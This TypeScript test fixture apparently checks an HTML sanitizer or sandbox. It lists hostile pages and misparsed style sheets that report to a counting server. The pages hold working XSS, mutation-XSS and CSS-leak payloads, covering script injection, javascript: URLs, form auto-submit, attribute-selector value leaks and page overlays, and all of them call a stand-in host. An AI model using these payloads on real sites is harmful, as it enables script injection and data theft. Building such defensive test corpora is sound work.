/** Pages that try to run, load, send, navigate or cover something; `out` is a server that counts what arrives. */
export function hostilePages(out: string): readonly (readonly [name: string, html: string])[] {
  const run = `top.document.title='run';fetch('${out}/run')`;
  return [
    ["a script", `<script>${run}</script><p>Text`],
    [
      "a linked script",
      `<script src="${out}/a.js"></script><script type=module src="${out}/b.js"></script><p>Text`,
    ],
    [
      "handlers",
      `<body onload="${run}"><img src=x onerror="${run}"><p onmouseover="${run}" tabindex=0 autofocus onfocus="${run}">Text`,
    ],
    [
      "script addresses",
      `<a href="javascript:${run}" autofocus>Text</a><iframe src="javascript:${run}"></iframe><object data="javascript:${run}"></object>`,
    ],
    [
      "nested frames",
      `<iframe src="${out}/f"></iframe><iframe srcdoc="<script>${run}</script><img src=${out}/s>"></iframe><frameset><frame src="${out}/g"></frameset>`,
    ],
    ["a frame set", `<html><frameset cols=50%><frame src="${out}/g"></frameset></html>`],
    ["the end of a frame", `</iframe></body></html><script>${run}</script><img src="${out}/after"><p>Text`],
    [
      "forms",
      `<form id=f action="${out}/form" method=post><input name=a value=b autofocus><input type=image src="${out}/i"><button formaction="${out}/b">Send</button></form><script>f.submit()</script>`,
    ],
    [
      "a refresh",
      `<meta http-equiv=refresh content="0;url=${out}/refresh"><noscript><meta http-equiv=refresh content="0;url=${out}/noscript"></noscript><p>Text`,
    ],
    [
      "a base",
      `<base href="${out}/base/" target=_top><img src="relative.png"><a href="x">Text</a><link rel=stylesheet href=sheet.css>`,
    ],
    [
      "links of the head",
      `<link rel=stylesheet href="${out}/s.css"><link rel=preload as=image href="${out}/p"><link rel=prefetch href="${out}/q"><link rel=icon href="${out}/i"><link rel=manifest href="${out}/m"><link rel=dns-prefetch href="//out.example"><link rel=modulepreload href="${out}/j"><p>Text`,
    ],
    [
      "pictures",
      `<img src="${out}/1" srcset="${out}/2 2x"><picture><source srcset="${out}/3"><img src="${out}/4"></picture><body background="${out}/5"><table background="${out}/6"><tr><td background="${out}/7">Text</table><img lowsrc="${out}/8" dynsrc="${out}/9"><input type=image src="${out}/10">`,
    ],
    [
      "media",
      `<video src="${out}/v" poster="${out}/p" autoplay></video><audio src="${out}/a" autoplay></audio><video><source src="${out}/s"><track src="${out}/t" default></video><object data="${out}/o"></object><embed src="${out}/e"><applet code="${out}/c"></applet>`,
    ],
    [
      "drawings",
      `<svg onload="${run}"><script>${run}</script><image href="${out}/i"/><use href="${out}/u#x"/><foreignObject><iframe src="${out}/f"></iframe><img src="${out}/g"></foreignObject><animate attributeName=href values="javascript:${run}"/><a href="javascript:${run}"><text>x</text></a><style>@import url(${out}/css);</style><rect fill="url(${out}/paint)"/><filter id=f><feImage href="${out}/fe"/></filter></svg>`,
    ],
    [
      "formulas",
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${out}/m onerror=${run}&gt;">`,
    ],
    [
      "style sheets that load",
      `<style>@import "${out}/i1";@import url(${out}/i2);@font-face{font-family:x;src:url(${out}/font)}p{font-family:x;background:url(${out}/bg);list-style:url(${out}/ls);content:url(${out}/c);cursor:url(${out}/cur),auto;background-image:image-set("${out}/set" 1x)}p::before{content:url(${out}/before)}@media all{p{border-image:url(${out}/border)}}p{--x:url(${out}/var);mask:var(--x)}</style><p style="background:url('${out}/style')">Text`,
    ],
    [
      "style sheets that leak",
      `<style>input[value^=a]{background:url(${out}/leak-a)}a:visited{background:url(${out}/visited)}[data-node]{background:url(${out}/node)}</style><input value=abc><a href="${out}/x">Text</a>`,
    ],
    [
      "style sheets that escape",
      `<style>p{background:\\75\\72\\6c(${out}/escaped)}</style><style></style><img src="${out}/i"></style><p style='background:url("${out}/a)'>Text<p style="x:expression(${run});behavior:url(${out}/b);-moz-binding:url(${out}/c)">Text`,
    ],
    [
      "styles that cover",
      `<style>html,body{position:fixed;inset:0;z-index:2147483647;overflow:hidden;pointer-events:all;background:red}*{animation:x .01s infinite}@keyframes x{from{background:url(${out}/frame)}}</style><div style="position:fixed;inset:0;z-index:2147483647">Text</div>`,
    ],
    ["messages", `<script>for(;;)parent.postMessage('x','*')</script><p>Text`],
    [
      "downloads",
      `<a href="${out}/file" download autofocus id=a>Text</a><script>a.click()</script><iframe src="${out}/file"></iframe><a href="data:text/html,x" download>x</a>`,
    ],
    [
      "dialogs",
      `<script>alert(1);confirm(1);prompt(1);print();onbeforeunload=()=>1;open('${out}/open');top.location='${out}/top'</script><dialog open>Text</dialog><p popover>Text`,
    ],
    [
      "pings and targets",
      `<a href="#" ping="${out}/ping" target=_top autofocus>Text</a><map name=m><area href="${out}/area"></map><img usemap=#m>`,
    ],
    [
      "other parsers",
      `<?xml-stylesheet href="${out}/xsl"?><!DOCTYPE x SYSTEM "${out}/dtd" [<!ENTITY e SYSTEM "${out}/entity">]><p>&e; ]]&gt; <![CDATA[<script>${run}</script>]]> <!-- -- > --> <p\u0001 a\u0000b="1" "=2 <>=3>\ufffe\ud800 Text`,
    ],
    [
      "names of elements",
      `<a:b xmlns:a="${out}/ns">1</a:b><x"y>2</x"y><html:script>${run}</html:script><svg:script>${run}</svg:script><xml:base>3</xml:base><p xml:base="${out}/" xmlns="${out}/ns" data-node=999 DATA-NODE=998>Text`,
    ],
    [
      "shadows and templates",
      `<template shadowrootmode=open><img src="${out}/shadow"><script>${run}</script></template><div><template shadowrootmode=open><slot></slot><style>:host{background:url(${out}/host)}</style></template>Text</div><portal src="${out}/portal"></portal><fencedframe src="${out}/fenced"></fencedframe>`,
    ],
    [
      "speculation",
      `<script type=speculationrules>{"prefetch":[{"urls":["${out}/spec"]}]}</script><script type=importmap>{"imports":{"a":"${out}/map"}}</script><p>Text`,
    ],
  ];
}

/** Style sheets that a browser takes apart otherwise than they look: each would load a picture of `p`. */
export const MISREAD_SHEETS: readonly string[] = [
  // Declarations straight inside of an at-rule that is nested in a rule.
  'p{@media all{background:image-set("http://out.example/x" 1x);b{}}}',
  'p{@supports (color:red){background:image-set("http://out.example/x" 1x);b{}}}',
  // Brackets that are closed by another kind, or by a brace.
  'p{a:[}];background:image-set("http://out.example/x" 1x);b{}',
  'p{a:(]});background:image-set("http://out.example/x" 1x);b{}',
  'p{a:({}});background:image-set("http://out.example/x" 1x);b{}',
  // A number ends before a point without digits: an address follows, in which quotes hold nothing together.
  'p{--z:1.url(a"b);background:url(http://out.example/x);c:")}',
  // A carriage return counts as a line feed, which no backslash escapes.
  'p{--z:\\\rurl(a"b);background:url(http://out.example/x);c:")}',
];
